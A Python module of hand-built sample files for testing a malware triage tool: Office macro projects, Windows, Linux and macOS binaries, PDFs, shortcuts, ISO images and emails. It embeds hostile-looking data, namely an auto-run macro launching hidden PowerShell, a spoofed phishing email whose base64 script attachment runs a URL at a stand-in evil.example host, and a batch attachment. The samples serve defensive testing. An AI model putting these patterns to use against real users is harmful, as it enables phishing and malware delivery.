"""Harmless samples made by hand: just enough of each format for its reader, with the traits that triage looks for."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

SECTOR = 512


def compound(streams: dict[str, bytes], classes: dict[str, bytes] | None = None) -> bytes:
    """An OLE compound file ([MS-CFB] version 3). Paths use '/'; `classes` gives storages a class id, '' being the root."""
    names = _tree(streams)
    mini, big = bytearray(), bytearray()
    mini_fat: list[int] = []
    fat: list[int] = []
    where: dict[str, tuple[int, int]] = {}
    for path, content in streams.items():
        if len(content) < 4096:
            where[path] = (len(mini_fat) if content else 0xFFFFFFFE, len(content))
            count = -(-len(content) // 64)
            mini_fat += [*range(len(mini_fat) + 1, len(mini_fat) + count), 0xFFFFFFFE] if count else []
            mini += content.ljust(count * 64, b"\0")
        else:
            where[path] = (_append(big, fat, content), len(content))
    root_start = _append(big, fat, bytes(mini)) if mini else 0xFFFFFFFE
    mini_fat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat)
    mini_start = _append(big, fat, mini_fat_bytes, b"\xff") if mini_fat else 0xFFFFFFFE
    directory = _directory(names, where, (root_start, len(mini)), classes or {})
    directory_start = _append(big, fat, directory)
    fat_sectors = 1
    while (len(fat) + fat_sectors) * 4 > fat_sectors * SECTOR:
        fat_sectors += 1
    fat_start = len(fat)
    fat += [0xFFFFFFFD] * fat_sectors
    big += struct.pack(f"<{len(fat)}I", *fat).ljust(fat_sectors * SECTOR, b"\xff")
    difat = [*range(fat_start, fat_start + fat_sectors)]
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack(
        "<HHHHH6xIIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, fat_sectors, directory_start, 0, 4096,
        mini_start, -(-len(mini_fat_bytes) // SECTOR), 0xFFFFFFFE, 0, difat[0],
    )  # fmt: skip
    rest = difat[1:] + [0xFFFFFFFF] * (109 - len(difat))
    return (header + struct.pack(f"<{len(rest)}I", *rest)).ljust(SECTOR, b"\0") + bytes(big)


def _append(big: bytearray, fat: list[int], content: bytes, fill: bytes = b"\0") -> int:
    start, count = len(fat), max(1, -(-len(content) // SECTOR))
    fat += [*range(start + 1, start + count), 0xFFFFFFFE]
    big += content.ljust(count * SECTOR, fill)
    return start


def _tree(streams: dict[str, bytes]) -> list[str]:
    names = [""]
    for path in streams:
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            name = "/".join(parts[:depth])
            if name not in names:
                names.append(name)
    return names


def _directory(
    names: list[str], where: dict[str, tuple[int, int]], root: tuple[int, int], classes: dict[str, bytes]
) -> bytes:
    out = b""
    for index, path in enumerate(names):
        children = [i for i, n in enumerate(names) if i and n.rpartition("/")[0] == path]
        siblings = [i for i, n in enumerate(names) if i and n.rpartition("/")[0] == path.rpartition("/")[0]]
        following = siblings[siblings.index(index) + 1] if index and siblings[-1] != index else 0xFFFFFFFF
        kind = 5 if not index else 2 if path in where else 1
        start, size = root if not index else where.get(path, (0, 0))
        raw = (path.rpartition("/")[2] or "Root Entry").encode("utf-16-le")[:62]
        out += raw.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ", len(raw) + 2, kind, 1, 0xFFFFFFFF, following, children[0] if children else 0xFFFFFFFF,
            classes.get(path, bytes(16)), 0, 0, 0, start, size,
        )  # fmt: skip
    return out.ljust(-(-len(out) // SECTOR) * SECTOR, b"\0")


def vba_compressed(text: bytes) -> bytes:
    """The compression of [MS-OVBA] with literals only: flag bytes of zero and eight bytes each."""
    out = b"\x01"
    for start in range(0, len(text), 3600):
        piece = text[start : start + 3600]
        body = b"".join(b"\0" + piece[at : at + 8] for at in range(0, len(piece), 8))
        out += struct.pack("<H", 0x8000 | 3 << 12 | len(body) + 2 - 3) + body
    return out


def vba_streams(modules: dict[str, str], folder: str = "VBA/", cache: int = 0) -> dict[str, bytes]:
    """The streams of a macro project: the list of modules and each module after `cache` bytes of compiled code."""
    record = lambda kind, content: struct.pack("<HI", kind, len(content)) + content  # noqa: E731
    listing = record(0x0001, bytes(4)) + struct.pack("<HIIH", 0x0009, 4, 1, 2) + record(0x0003, b"\xe4\x04")
    listing += record(0x000F, struct.pack("<H", len(modules)))
    for name in modules:
        listing += (
            record(0x0019, name.encode()) + record(0x001A, name.encode()) + record(0x0032, name.encode("utf-16-le"))
        )
        listing += record(0x0031, struct.pack("<I", cache)) + record(0x002B, b"")
    found = {folder + name: b"\x16" * cache + vba_compressed(source.encode()) for name, source in modules.items()}
    return found | {folder + "dir": vba_compressed(listing + record(0x0010, b""))}


MACRO = (
    'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  x = "powers" & "hell -nop -w hidden"\r\n'
    "  Shell (x)\r\nEnd Sub\r\n"
)


def zipped(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def document(members: dict[str, bytes | str], folder: str = "word") -> bytes:
    """An OOXML file with some members besides the ones that make it one."""
    whole = {"[Content_Types].xml": "<Types/>", f"{folder}/document.xml": "<w:document/>"}
    return zipped(whole | members)


def relationship(kind: str, target: str) -> str:
    return (f'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>')  # fmt: skip


def pe(
    sections: Sequence[tuple[str, bytes, int]] = ((".text", b"\xc3" * 512, 0x60000020),),
    *, overlay: bytes = b"", imports: Sequence[str] = (), entry: int = 0x1000, stamp: int = 0x60000000, dll: str = "kernel32.dll",
) -> bytes:  # fmt: skip
    """A 32-bit Windows program. Each section is name, content, characteristics; imports go into one of their own."""
    rows = list(sections)
    directories = [(0, 0)] * 16
    if imports:
        address = 0x1000 + 0x1000 * sum(-(-len(c) // 0x1000) or 1 for _, c, _ in rows)
        content = _imports(address, dll, imports)
        rows.append((".idata", content, 0xC0000040))
        directories[1] = (address, len(content))
    headers = b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x40) + b"PE\0\0"
    headers += struct.pack("<HHIIIHH", 0x14C, len(rows), stamp, 0, 0, 224, 0x0102)
    top = 0x1000 + 0x1000 * sum(-(-len(c) // 0x1000) or 1 for _, c, _ in rows)
    headers += struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10B, 14, 0, 512, 0, 0, entry, 0x1000, 0x2000, 0x400000, 0x1000, 512,
                           6, 0, 0, 0, 6, 0, 0, top, 512, 0, 3, 0x8140, 1 << 20, 4096, 1 << 20, 4096, 0, 16)  # fmt: skip
    headers += b"".join(struct.pack("<II", *d) for d in directories)
    body, address, offset = b"", 0x1000, 1024
    for name, content, flags in rows:
        raw = content.ljust(-(-len(content) // 512) * 512, b"\0")
        headers += struct.pack("<8sIIIIIIHHI", name.encode(), len(content) or 0x5000, address, len(raw), offset if raw else 0,
                               0, 0, 0, 0, flags)  # fmt: skip
        body += raw
        offset += len(raw)
        address += 0x1000 * (-(-len(content) // 0x1000) or 1)
    return headers.ljust(1024, b"\0") + body + overlay


def _imports(address: int, library: str, names: Sequence[str]) -> bytes:
    thunks = 40
    texts = thunks + 8 * (len(names) + 1)
    table, strings = b"", library.encode() + b"\0"
    for name in names:
        table += struct.pack("<I", address + texts + len(strings))
        strings += b"\0\0" + name.encode() + b"\0"
    table += bytes(4)
    first = struct.pack("<IIIII", address + thunks, 0, 0, address + texts, address + thunks + len(table))
    return first.ljust(40, b"\0") + table + table + strings


def elf(*, flags: int = 5, overlay: bytes = b"", interpreter: bytes = b"", content: bytes = b"\xc3" * 64) -> bytes:
    """A 64-bit Linux program of one segment, without sections."""
    count = 2 if interpreter else 1
    start = 64 + 56 * count
    body = interpreter.ljust(len(interpreter) + 1, b"\0") + content if interpreter else content
    header = b"\x7fELF\x02\x01\x01".ljust(16, b"\0") + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400000 + start, 64, 0, 0, 64, 56,
                                                                 count, 64, 0, 0)  # fmt: skip
    heads = struct.pack("<IIQQQQQQ", 1, flags, 0, 0x400000, 0x400000, start + len(body), start + len(body), 0x1000)
    if interpreter:
        heads = (
            struct.pack("<IIQQQQQQ", 3, 4, start, 0x400000 + start, 0, len(interpreter) + 1, len(interpreter) + 1, 1)
            + heads
        )
    return header + heads + body + overlay


def macho(*, cpu: int = 0x01000007, protection: int = 5) -> bytes:
    """A 64-bit macOS program of one segment and no signature."""
    segment = struct.pack("<II16sQQQQIIII", 0x19, 72, b"__TEXT", 0, 4096, 0, 4096, 7, protection, 0, 0)
    return (struct.pack("<IIIIIIII", 0xFEEDFACF, cpu, 3, 2, 1, len(segment), 0x85, 0) + segment).ljust(4096, b"\x90")


def fat(*slices: bytes) -> bytes:
    """A fat Mach-O of some programs."""
    out = struct.pack(">II", 0xCAFEBABE, len(slices))
    body, offset = b"", 4096
    for content in slices:
        cpu, sub = struct.unpack("<II", content[4:12])
        out += struct.pack(">IIIII", cpu, sub, offset, len(content), 12)
        body += content
        offset += len(content)
    return out.ljust(4096, b"\0") + body


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    out = b"%PDF-1.7\n"
    for number, content in enumerate(objects, 1):
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return out + b"trailer << /Root 1 0 R >>\n%%EOF\n" + tail


def flate(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), extra, packed)


def lnk(
    target: str = "C:\\Windows\\System32\\cmd.exe", arguments: str = "", icon: str = "", machine: str = "desk-01"
) -> bytes:
    """A shortcut with a local target, arguments, an icon and the tracker block that names the machine."""
    flags = 0x02 | 0x80 | (0x20 if arguments else 0) | (0x40 if icon else 0)
    header = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
    header += struct.pack("<IIQQQIIIHHII", flags, 0x20, *[132_500_000_000_000_000] * 3, 1234, 0, 7, 0, 0, 0, 0)
    path = target.encode() + b"\0"
    volume = struct.pack("<IIII", 17, 3, 0xDEADBEEF, 16) + b"\0"
    base = 28 + len(volume)
    info = struct.pack("<IIIIIII", base + len(path) + 1, 28, 1, 28, base, 0, base + len(path)) + volume + path + b"\0"
    strings = b"".join(struct.pack("<H", len(t)) + t.encode("utf-16-le") for t in (arguments, icon) if t)
    tracker = struct.pack("<IIII", 0x60, 0xA0000003, 0x58, 0) + machine.encode().ljust(16, b"\0") + bytes(range(64))
    return header + info + strings + tracker + bytes(4)


MAIL = b"""From: "IT support help@bank.example" <it@evil.example>
Reply-To: other@elsewhere.example
To: victim@corp.example
Subject: =?utf-8?q?Your_account_=C3=A9?=
Date: Mon, 02 Mar 2026 10:00:00 +0100
Message-ID: <1@evil.example>
Received: from a (203.0.113.5) by mx.corp.example
Authentication-Results: mx.corp.example; spf=fail; dkim=none
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/html; charset=utf-8

<p>Please go to <a href="http://login.evil.example/x">https://www.bank.example/login</a></p>
--b
Content-Type: application/octet-stream; name="invoice.pdf.js"
Content-Disposition: attachment; filename="invoice.pdf.js"
Content-Transfer-Encoding: base64

dmFyIGEgPSAiaHR0cDovL2Nkbi5ldmlsIiArICIuZXhhbXBsZS9wLmV4ZSI7IG5ldyBBY3RpdmVYT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikucnVuKGEpOw==
--b--
"""


def message() -> bytes:
    """An Outlook message with a subject, a sender, a body with a link and one attachment."""
    wide = lambda text: text.encode("utf-16-le")  # noqa: E731
    return compound({
        "__properties_version1.0": bytes(32),
        "__substg1.0_0037001F": wide("Invoice 12"),
        "__substg1.0_5D01001F": wide("sender@evil.example"),
        "__substg1.0_1000001F": wide("see http://files.evil.example/a.zip"),
        "__attach_version1.0_#00000000/__substg1.0_3707001F": wide("run.bat"),
        "__attach_version1.0_#00000000/__substg1.0_37010102": b"@echo off\r\nset a=calc\r\n%a%.exe\r\n",
    })  # fmt: skip


def image(files: dict[str, bytes]) -> bytes:
    """An ISO 9660 image with files in its root folder."""

    def record(name: bytes, start: int, size: int, flags: int) -> bytes:
        length = 33 + len(name) + (len(name) + 1) % 2
        both = lambda n: struct.pack("<I", n) + struct.pack(">I", n)  # noqa: E731
        return (struct.pack("BB", length, 0) + both(start) + both(size) + bytes(7) + bytes([flags]) + bytes(6)
                + bytes([len(name)]) + name).ljust(length, b"\0")  # fmt: skip

    folder = record(b"\0", 18, 2048, 2) + record(b"\1", 18, 2048, 2)
    body = b""
    for name, content in files.items():
        folder += record(name.encode() + b";1", 19 + len(body) // 2048, len(content), 0)
        body += content.ljust(-(-len(content) // 2048) * 2048, b"\0")
    primary = (b"\x01CD001\x01".ljust(40, b"\0") + b"LABEL".ljust(32)).ljust(156, b"\0") + record(b"\0", 18, 2048, 2)
    end = b"\xffCD001\x01"
    return bytes(32768) + primary.ljust(2048, b"\0") + end.ljust(2048, b"\0") + folder.ljust(2048, b"\0") + body
